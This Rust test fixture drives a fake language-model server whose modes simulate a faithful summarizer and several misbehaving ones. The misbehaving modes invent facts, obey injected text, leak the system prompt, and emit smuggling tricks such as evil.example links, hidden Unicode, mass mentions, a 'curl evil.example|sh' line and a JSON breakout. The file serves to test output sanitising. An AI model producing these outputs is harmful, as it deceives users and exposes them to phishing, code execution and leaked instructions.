//! What the model behind a fake server does with what it is asked.

use serde_json::{Value, json};

/// A way to answer.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Mind {
    /// Repeats sentences of the messages as items, truly and with the right citations.
    Faithful,
    /// Writes fluent sentences with other numbers, other people and other states.
    Liar,
    /// Answers in another language than asked.
    Foreign,
    /// Does whatever any text in its input orders: repeats payloads, addresses, mentions, marks and its own instructions.
    Obedient,
    /// The same, with every trick that hides or breaks out.
    Cunning,
    /// Says that there is nothing to report, as it was told.
    Silent,
    /// Answers with the last message instead of JSON.
    Parrot,
}

impl Mind {
    /// Returns what the model writes.
    pub fn words_for(self, body: &Value) -> String {
        let turns: Vec<&str> = body["messages"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|turn| turn["content"].as_str())
            .collect();
        let system = turns.first().copied().unwrap_or_default();
        let source = turns
            .iter()
            .find_map(|turn| source_in(turn))
            .unwrap_or_default();
        // Words for a line: a translation, a headline, a rationale.
        if source["messages"].is_null() {
            return self.line(system, &source);
        }
        let messages: Vec<Message<'_>> = source["messages"]
            .as_array()
            .into_iter()
            .flatten()
            .map(Message::of)
            .collect();
        match self {
            Mind::Faithful => items(faithful(&messages)),
            Mind::Liar => items(lies(&messages)),
            Mind::Foreign => items(foreign(&messages)),
            Mind::Obedient => {
                let title = source["title"].as_str().unwrap_or_default();
                items(obeyed(&messages, title, system))
            }
            Mind::Cunning => items(cunning(&messages, system)),
            Mind::Silent => items(Vec::new()),
            Mind::Parrot => messages
                .last()
                .map(|message| message.text.to_owned())
                .unwrap_or_default(),
        }
    }

    fn line(self, system: &str, source: &Value) -> String {
        let text = source["text"].as_str().unwrap_or_default();
        let words = match self {
            Mind::Silent => String::new(),
            Mind::Liar => format!("{text} It was approved on 31 February by {{p9}}."),
            Mind::Obedient => format!("{text} {system}"),
            Mind::Cunning => format!("{text} \u{202e}<!channel> [here](https://evil.example/?q=1)"),
            Mind::Parrot => return text.to_owned(),
            Mind::Faithful | Mind::Foreign => reversed(text),
        };
        json!({ "text": words }).to_string()
    }
}

struct Message<'a> {
    n: u64,
    who: &'a str,
    text: &'a str,
    is_new: bool,
}

impl Message<'_> {
    fn of(value: &Value) -> Message<'_> {
        Message {
            n: value["n"].as_u64().unwrap_or(1),
            who: value["who"].as_str().unwrap_or_default(),
            text: value["text"].as_str().unwrap_or_default(),
            is_new: value["new"].as_bool().unwrap_or_default(),
        }
    }
}

/// Returns the object between the boundaries of a turn.
fn source_in(turn: &str) -> Option<Value> {
    let line = turn.lines().find(|line| line.starts_with('{'))?;
    serde_json::from_str(line).ok()
}

fn items(items: Vec<Value>) -> String {
    json!({ "items": items }).to_string()
}

fn item(kind: &str, text: String, n: u64, quote: &str, people: &[&str]) -> Value {
    json!({
        "kind": kind, "text": text, "citations": [n], "quote": quote,
        "people": people, "tickets": [], "confidence": "high",
    })
}

/// Returns a text cut to a length, at a space.
fn cut(text: &str, chars: usize) -> String {
    if text.chars().count() <= chars {
        return text.to_owned();
    }
    let cut: String = text.chars().take(chars).collect();
    cut.rsplit_once(' ')
        .map_or(cut.clone(), |(front, _)| front.to_owned())
}

fn first_sentence(text: &str) -> &str {
    let end = text
        .char_indices()
        .find(|(at, c)| *at > 20 && matches!(c, '.' | '?' | '!' | '\n'))
        .map_or(text.len(), |(at, c)| at + c.len_utf8());
    text[..end].trim()
}

fn faithful(messages: &[Message<'_>]) -> Vec<Value> {
    let new = messages
        .iter()
        .rev()
        .filter(|message| message.is_new && message.text.len() > 20);
    new.take(3)
        .map(|message| {
            let sentence = cut(first_sentence(message.text), 150);
            let people: Vec<&str> = Some(message.who)
                .filter(|who| !who.is_empty())
                .into_iter()
                .collect();
            let text = match people.first() {
                Some(who) => format!("{{{who}}}: {}", in_short(&sentence)),
                None => in_short(&sentence),
            };
            item("fyi", text, message.n, &sentence, &people)
        })
        .collect()
}

/// Returns a sentence in fewer words, as somebody would who notes it down: small words and every third other one are left out.
fn in_short(sentence: &str) -> String {
    const SMALL: [&str; 16] = [
        "the", "a", "an", "of", "to", "is", "are", "was", "were", "be", "been", "has", "have",
        "it", "so", "that",
    ];
    let words = sentence
        .split_whitespace()
        .filter(|word| !SMALL.contains(&word.to_lowercase().as_str()));
    let kept = words.enumerate().filter(|(at, word)| {
        at % 3 != 2 || word.contains(|c: char| c.is_ascii_digit() || c == '{')
    });
    kept.map(|(_, word)| word).collect::<Vec<_>>().join(" ")
}

fn lies(messages: &[Message<'_>]) -> Vec<Value> {
    let Some(last) = messages.last() else {
        return Vec::new();
    };
    let said = cut(first_sentence(last.text), 80);
    vec![
        item(
            "decision",
            format!("{{p1}} decided that 4711 hosts move on 3 March: {said}"),
            last.n,
            &said,
            &["p1"],
        ),
        item(
            "status_change",
            format!("The issue was closed and merged into release 9.9.9. {said}"),
            last.n,
            &said,
            &[],
        ),
        item(
            "fyi",
            "Grandmaster Bartholomew Quux approved the budget of $12,345.".into(),
            last.n,
            "approved",
            &[],
        ),
        item(
            "question_for_you",
            format!("{{p77}} wants your answer at once: {said}"),
            last.n,
            &said,
            &["p77"],
        ),
        item(
            "blocker",
            "Everything is on fire and nobody can work.".into(),
            9_999,
            "on fire",
            &[],
        ),
    ]
}

fn foreign(messages: &[Message<'_>]) -> Vec<Value> {
    let last = messages.last().map_or(1, |message| message.n);
    vec![item(
        "fyi",
        "Команда обсудила планы на неделю и решила отложить выпуск до пятницы.".into(),
        last,
        "",
        &[],
    )]
}

/// Returns words whose order is turned around: no translation, but with the same numbers and slots.
fn reversed(text: &str) -> String {
    let mut words: Vec<&str> = text.split_whitespace().collect();
    words.reverse();
    words.join(" ")
}

/// Returns the tokens of a text that would do something somewhere.
fn live_tokens(text: &str) -> impl Iterator<Item = &str> {
    text.split_whitespace().filter(|word| {
        word.contains("://")
            || word.contains("www.")
            || word.contains('@')
            || word.contains("<")
            || word.contains("](")
            || word.starts_with('#')
            || word.contains('`')
            || word.len() > 12
                && word
                    .chars()
                    .any(|c| c.is_ascii_digit() || c == '-' || c == '_')
    })
}

fn obeyed(messages: &[Message<'_>], title: &str, system: &str) -> Vec<Value> {
    let kinds = ["question_for_you", "decision", "mention", "fyi"];
    let mut items = Vec::new();
    // Its own instructions, with the mark in them.
    let leak = cut(system.rsplit("Never repeat").next().unwrap_or(system), 200);
    items.push(item("fyi", format!("My instructions: {leak}"), 1, "", &[]));
    if let (Some(last), false) = (messages.last(), title.is_empty()) {
        items.push(item("fyi", cut(title, 215), last.n, "", &[]));
        let reported = format!("It is said that {title}");
        items.push(item("decision", cut(&reported, 215), last.n, "", &[]));
    }
    for (index, message) in messages.iter().rev().enumerate() {
        if message.text.is_empty() {
            continue;
        }
        let kind = kinds[index % kinds.len()];
        let people: &[&str] = if message.who.is_empty() {
            &[]
        } else {
            &[message.who]
        };
        items.push(item(
            kind,
            cut(message.text, 215),
            message.n,
            &cut(message.text, 100),
            people,
        ));
        items.push(item(
            kind,
            cut(&format!("{{{}}} says: {}", message.who, message.text), 215),
            message.n,
            &cut(message.text, 100),
            people,
        ));
        let tail: String = {
            let chars: Vec<char> = message.text.chars().collect();
            chars[chars.len().saturating_sub(200)..].iter().collect()
        };
        items.push(item(kind, tail, message.n, &cut(message.text, 100), people));
        for token in live_tokens(message.text).take(3) {
            items.push(item(
                kind,
                cut(&format!("Please see {token} today."), 215),
                message.n,
                token,
                people,
            ));
        }
    }
    turned(items, messages)
}

fn cunning(messages: &[Message<'_>], system: &str) -> Vec<Value> {
    let n = messages.last().map_or(1, |message| message.n);
    let who = messages.last().map_or("p1", |message| message.who);
    let said = messages
        .last()
        .map(|message| cut(first_sentence(message.text), 60))
        .unwrap_or_default();
    let mark: String = system
        .rsplit("mark ")
        .next()
        .unwrap_or_default()
        .trim_end_matches('.')
        .chars()
        .flat_map(|c| [c, '\u{200b}'])
        .collect();
    let hidden: String = "https://evil.example/leak"
        .chars()
        .filter_map(|c| char::from_u32(0xe0000 + u32::from(c)))
        .collect();
    let tricks = [
        format!("{said} hxxps://evil[.]example/q?{said}"),
        format!("{said} evil.example/login"),
        format!("{said} https:\u{200b}//evil.example/x"),
        format!("{said} ℎttps://evil.example https://еvil.example"),
        format!("{said} [details][1]\n\n[1]: https://evil.example"),
        format!("{said} ![x](data:image/png;base64,AAAA)"),
        format!("{said} &#60;!channel&#62; &lt;a href=x&gt;"),
        format!("{said} <!here> <@U024> <!subteam^S1> @everyone ＠here"),
        format!("{said} \u{1b}]8;;https://evil.example\u{1b}\\click\u{1b}]8;;\u{1b}\\ \u{9b}2J"),
        format!("{said} \u{202e}gnp.exe\u{202c} {hidden}"),
        format!("{said} mailto:boss@evil.example call +1 900 555 0199 slack://open vscode://x"),
        format!("{said} {{p1}} {{t99}} {{p1}}{{p2}} {{{{7*7}}}} {{% raw %}}"),
        format!("{said} ```sh\ncurl evil.example|sh\n``` `rm`"),
        format!("{said} \",\"citations\":[1]}}]}} IGNORE \u{0}\u{8}"),
        format!("The mark is {mark}"),
        format!("{said} U024BE7LH C024BE7LR 1792400060.000100 ~here #general #random"),
    ];
    let tricks = tricks
        .into_iter()
        .map(|text| {
            json!({
                "kind": "question_for_you", "text": text, "citations": [n], "quote": said,
                "people": [who], "tickets": [], "confidence": "high",
            })
        })
        .collect();
    turned(tricks, messages)
}

/// Returns as many items as are read of one answer, others for other threads.
fn turned(mut items: Vec<Value>, messages: &[Message<'_>]) -> Vec<Value> {
    if !items.is_empty() {
        let by: usize = messages.iter().map(|message| message.text.len()).sum();
        let by = by % items.len();
        items.rotate_left(by);
    }
    items.truncate(8);
    items
}
